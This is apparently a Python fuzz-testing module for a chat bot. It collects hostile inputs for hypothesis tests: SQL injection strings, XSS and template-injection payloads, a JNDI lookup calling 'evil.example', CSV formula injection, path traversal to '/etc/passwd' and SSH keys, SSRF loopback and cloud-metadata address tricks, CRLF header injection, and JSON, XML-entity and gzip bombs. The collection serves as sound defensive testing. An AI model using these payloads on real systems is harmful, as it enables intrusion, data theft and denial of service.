"""What people with ill intent type, name things and serve: by what it tries to do.

A new trick is a line here, and goes over everything; hypothesis builds on it, too (``STRATEGY``).
"""

from __future__ import annotations

import gzip
import json
import os
import zlib
from typing import Any

from hypothesis import strategies as st

#: How many times as many examples as in CI: ``make fuzz`` sets it.
EFFORT = int(os.environ.get("FUZZ", "1"))

#: 10^5 characters: more than any platform takes, as many as a console or a title may bring.
LONG = 100_000

MARKUP = (
    "<b>bold</b> <i>it</i> <a href='https://evil.example/'>x</a> <script>alert(1)</script>",
    "</code></a></b></i></pre>",
    "<tg-spoiler>x</tg-spoiler><tg-emoji emoji-id='1'>x</tg-emoji><span class='tg-spoiler'>",
    "&lt;b&gt; &amp;amp; &#60;b&#62; &#x3c; &quot; &nbsp;",
    "**b** __u__ *i* _i_ ~~s~~ ||spoiler|| `c` ```py\nblock``` > quote\n# head\n-# small",
    "[click](https://evil.example/) [x]( javascript:alert(1)) <https://evil.example/>",
    "<t:0:R> <t:1700000000:F> <:emoji:123456789012345678> </help:123456789012345678> <id:guide>",
    "[31mred[/31m] [bold]rich[/bold] [link=https://evil.example]x[/link]",
    "\\*not escaped\\* \\\\@everyone \\<@1>",
)
MENTIONS = (
    "@everyone @here",
    "<@1001> <@!1001> <@&{role}> <#{channel}>",
    "<a href='tg://user?id=1001'>you</a> tg://user?id=1001 [you](tg://user?id=1001)",
    "@ada_lovelace @MilepostBot /stats@MilepostBot /forget everything",
    "@\u200beveryone @\u2060everyone @e\u0301veryone \uff20everyone @everyone\u202e",
    "<@\u200b1001> <@&\u00ad{role}>",
)
UNSEEN = (
    "\u202egnp.exe\u202c \u2066x\u2069 \u2067y\u2069 \u2068z",
    "\u2069\u2069\u2069 out of its isolate \u202a\u202b\u202d",
    "a\u200bb\ufeffc\u2060d\u00ade\u180ef",
    "\u3164\u115f\u2800\u00a0",
    "\u034f\u17b4\u17b5\U000e0001\U000e0041",
    "e" + "\u0301" * 300,
    "\u0627\u0644\u0639 \u05d0\u05d1 \u0915\u094d\u0937 \ud55c\uad6d",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
)
CONTROLS = (
    "a\x00b",
    "\x00",
    "a\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31mred \x90 \x9d0;x\x9c",
    "one\r\ntwo\rthree\nfour\u2028five\u2029six\x85seven\teight",
    'level=error event="forged"\n2026-01-01T00:00:00Z [error] forged line',
    "a\ud83d",
    "\ude00b\ud800\udbff",
    "\x7f\x80\x81\ufffe\uffff\U0010ffff",
)
FORMATS = (
    "{0} {} {name} {n} {0.__class__.__mro__} {time!r:>99999999}",
    "%s %d %(name)s %n %99999999s ${x} #{x} $(id) `id` ${jndi:ldap://evil.example/a}",
    "{{ 7*7 }} {% for i in (1..9999999) %}x{% endfor %} {{ ''.__class__ }} {# #} {{ name | replace: '', 'x' }}",
    "=cmd|' /C calc'!A0 =HYPERLINK(\"https://evil.example\") +1+1 -1-1 @SUM(1)",
    "\\n \\0 \\x1b[31m \\u202e",
)
SQL = (
    "'; DROP TABLE chat; --",
    "' OR 1=1 --",
    '" OR ""="',
    "%' ESCAPE '!' UNION SELECT sqlite_version(), 1; --",
    "x'); ATTACH DATABASE '/tmp/x' AS x; SELECT load_extension('x') --",
    "100% _ \\ ' '' \\' pg_sleep(10) :name ?1 $1",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.jsonl",
    "/dev/zero",
    "/proc/self/environ",
    "~/.ssh/id_ed25519",
    "file:///etc/passwd",
    "con nul aux.txt",
)
NUMBERS = (
    "9" * 400,
    "-1",
    "1e309",
    "nan inf -inf Infinity",
    "0x10 0b1 1_000 ١٢٣ ２５０ ⅷ ²",
    "9223372036854775808",
    "2147483648",
    "s9223372036854775808",
    "999999999999999999999d",
    "0 -0 +0 0.0000000000001",
    "9999-99-99 0000-00-00 10000-01-01 2024-02-30",
)
LARGE = (
    "x" * LONG,
    "a " * (LONG // 2),
    "at 100 mention @here kinds " * (LONG // 27),
    "@everyone " * (LONG // 10),
    "*<&_`[" * (LONG // 6),
    '"' * LONG,
    "\u202e" * LONG,
    "e" + "\u0301" * LONG,
    "[" * LONG,
    "1" * LONG,
    "as " * (LONG // 3),
    "vs " * (LONG // 3),
    "\n" * LONG,
)

#: Texts of all kinds, the large ones apart.
TEXTS = (*MARKUP, *MENTIONS, *UNSEEN, *CONTROLS, *FORMATS, *SQL, *PATHS, *NUMBERS)

#: Hosts that all are, or may lead, inside; ``{port}`` is that of a server on loopback that must hear nothing.
INWARD = (
    "127.0.0.1:{port}",
    "localhost:{port}",
    "LOCALHOST.:{port}",
    "127.1:{port}",
    "2130706433:{port}",
    "0x7f.0.0.1:{port}",
    "0x7f000001:{port}",
    "0177.0.0.1:{port}",
    "017700000001:{port}",
    "0:{port}",
    "0.0.0.0:{port}",
    "[::1]:{port}",
    "[::]:{port}",
    "[::ffff:127.0.0.1]:{port}",
    "[::ffff:7f00:1]:{port}",
    "[0:0:0:0:0:ffff:7f00:0001]:{port}",
    "[::127.0.0.1]:{port}",
    "[64:ff9b::7f00:1]:{port}",
    "[2002:7f00:1::]:{port}",
    "[fe80::1%25lo]:{port}",
    "①②⑦.⓪.⓪.①:{port}",
    "１２７.0.0.1:{port}",
    "127。0。0。1:{port}",
    "127%2E0%2E0%2E1:{port}",
    "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:{port}",
    "user:pass@127.0.0.1:{port}",
    "example.org@127.0.0.1:{port}",
    "example.org%40127.0.0.1:{port}",
    "example.org:80@127.0.0.1:{port}",
    "127.0.0.1:{port}#@example.org",
    "127.0.0.1:{port}\\@example.org",
    "example.org\\@127.0.0.1:{port}",
    "127.0.0.1:{port}?.example.org",
    "127.0.0.1\t:{port}",
    "127.0.0.1:\u0660{port}",
    "10.0.0.1:{port}",
    "192.168.0.1:{port}",
    "172.16.0.1:{port}",
    "169.254.169.254:{port}",
    "100.64.0.1:{port}",
    "[fd00::1]:{port}",
    "[fec0::1]:{port}",
)
#: Addresses that are none, or of schemes that nobody may have.
NO_ADDRESSES = (
    "http://",
    "https:///x",
    "http://\x00/",
    "http://[::1",
    "http://ex ample.org/",
    "http://example.org:99999/",
    "http://example.org:-1/",
    "//example.org/x",
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "gopher://127.0.0.1:70/_x",
    "ftp://127.0.0.1/",
    "unix:///var/run/docker.sock",
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/x",
    "http://xn--/",
    "http://xn--a-ecp.ru/\u202e",
    "http://\u0430pple.invalid/",  # a Cyrillic letter: another name, which nobody has
    "http://" + "a" * 64 + ".invalid/",
    "http://" + "a." * 2_000 + "invalid/",
    "http://" + "x" * LONG,
    "http://example.invalid/" + "%00" * 1_000,
    "http://a:b@c:d@example.invalid:x/",
    "http://example.invalid/\r\nX-Injected: 1",
)


def deep(levels: int, *, inner: str = "1") -> str:
    return "[" * levels + inner + "]" * levels


#: JSON of which nothing is to be taken at its word, as text.
DOCUMENTS = (
    deep(200),
    deep(90_000),
    '{"a":' * 20_000 + "1" + "}" * 20_000,
    "9" * 5_000,
    '{"n": ' + "9" * 4_000 + "}",
    '{"n": 1e400, "m": -1e400}',
    '{"n": NaN, "live": Infinity, "m": -Infinity}',
    '{"n": "\\ud83d", "title": "\\udc00\\u0000"}',
    '{"n": 9223372036854775808, "live": true}',
    '{"n": 1, "n": 2, "__proto__": {"n": 3}, "live": {}}',
    "\ufeff{}",
    "{}" * 1_000,
    "null",
    '"' + "x" * 60_000 + '"',
    "[" + "0," * 30_000 + "0]",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>",
)
#: Values that a field of an answer may have instead of its own.
VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    10**30,
    -(10**30),
    2**53,
    2**63,
    1e308,
    float("inf"),
    float("-inf"),
    float("nan"),
    "",
    "0",
    "-5",
    "9" * 400,
    "1e999",
    "nan",
    [],
    {},
    [None],
    [[]],
    {"": {}},
    ["x"] * 500,
    *(one for one in TEXTS if len(one) < 400),
    "x" * 50_000,
)


def bombs(size: int = 60_000_000) -> dict[str, bytes]:
    """Return bodies of some kilobytes that are much when decompressed, by their encoding."""
    raw = b" " * size
    made = {"gzip": gzip.compress(raw), "deflate": zlib.compress(raw)}
    made["gzip, gzip"] = gzip.compress(made["gzip"])
    return made


#: Any of the texts, some of them beside each other, or signs by chance.
STRATEGY = st.one_of(
    st.sampled_from(TEXTS),
    st.lists(st.sampled_from(TEXTS), min_size=2, max_size=3).map(" ".join),
    st.text(st.characters(), max_size=60),
    st.text("<>&@*_`~|[]()#-\\/:{}%'\" \n\u202e\u2068\u200b0aא", max_size=60),
)


def as_json(value: Any) -> bytes:
    """Write a value as JSON, NaN and lone surrogates and all."""
    return json.dumps(value).encode()
